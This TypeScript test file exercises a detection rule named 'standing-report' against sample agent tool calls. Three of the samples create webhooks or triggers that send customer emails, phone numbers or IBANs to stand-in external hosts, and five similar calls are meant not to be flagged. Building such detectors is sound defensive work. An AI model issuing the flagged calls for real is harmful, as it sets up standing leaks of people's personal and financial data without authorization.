import { describeRule } from '../describe-rule.suite.ts';

describeRule(
  'standing-report',
  [
    `await tools.webhooks.create({ event: 'order.paid', url: 'https://in.other.example/x', fields: ['id', 'customer.email'] })`,
    `await tools.bus.addRule({ on: 'signup', then: { action: 'webhook', url: 'https://a.other.example', include: ['user.phone'] } })`,
    `const columns = ['iban']; await callTool('trigger_create', { target: 'https://b.other.example/in', columns })`,
  ],
  [
    `await tools.webhooks.create({ event: 'order.paid', url: 'https://in.other.example/x', fields: ['id', 'status'] })`,
    `await tools.webhooks.create({ event: 'order.paid', url: 'https://in.other.example/x' })`,
    `await tools.reports.build({ fields: ['email'], template: 'monthly' })`,
    `return await tools.webhooks.list({ url: 'https://in.other.example/x', fields: ['email'] })`,
    `await tools.crm.setRule({ name: 'tidy', fields: ['email'], action: 'lowercase' })`,
  ],
);
